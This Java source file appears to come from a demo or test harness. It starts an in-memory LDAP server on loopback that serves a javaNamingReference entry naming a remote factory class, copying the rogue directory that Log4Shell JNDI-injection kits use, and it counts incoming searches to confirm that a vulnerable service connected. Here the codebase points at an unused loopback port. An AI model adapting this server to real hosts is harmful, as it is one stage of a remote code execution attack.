package dev.peregrine.demo.driver;

import com.unboundid.ldap.listener.InMemoryDirectoryServer;
import com.unboundid.ldap.listener.InMemoryDirectoryServerConfig;
import com.unboundid.ldap.listener.InMemoryListenerConfig;
import com.unboundid.ldap.listener.interceptor.InMemoryInterceptedSearchRequest;
import com.unboundid.ldap.listener.interceptor.InMemoryOperationInterceptor;
import com.unboundid.ldap.sdk.LDAPException;
import com.unboundid.ldif.LDIFException;

import java.net.InetAddress;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * The attacker's directory for the JNDI injection: an in-memory LDAP server on loopback whose entry is a
 * {@code javaNamingReference} pointing at a remote factory class, as Log4Shell exploit kits serve. It counts the
 * searches it receives: proof that the service really connected and asked for the entry.
 */
public final class RogueLdap implements AutoCloseable {

    static final String BASE = "dc=peregrine,dc=demo";
    static final String ENTRY = "cn=exploit," + BASE;

    private final InMemoryDirectoryServer server;
    private final AtomicInteger searches = new AtomicInteger();

    public RogueLdap() throws LDAPException, LDIFException {
        InMemoryDirectoryServerConfig config = new InMemoryDirectoryServerConfig(BASE);
        config.setSchema(null); // javaNamingReference is not in the default schema
        config.setListenerConfigs(InMemoryListenerConfig.createLDAPConfig("ldap", InetAddress.getLoopbackAddress(),
                0, null));
        config.addInMemoryOperationInterceptor(new InMemoryOperationInterceptor() {
            @Override
            public void processSearchRequest(InMemoryInterceptedSearchRequest request) {
                searches.incrementAndGet();
            }
        });
        server = new InMemoryDirectoryServer(config);
        server.add("dn: " + BASE, "objectClass: top", "objectClass: domain", "dc: peregrine");
        server.add("dn: " + ENTRY, "objectClass: top", "objectClass: javaNamingReference", "cn: exploit",
                "javaClassName: Exploit", "javaFactory: Exploit", "javaCodeBase: http://127.0.0.1:1/");
        server.startListening();
    }

    public String url() {
        return "ldap://127.0.0.1:" + server.getListenPort() + "/" + ENTRY;
    }

    public int searches() {
        return searches.get();
    }

    @Override
    public void close() {
        server.shutDown(true);
    }
}
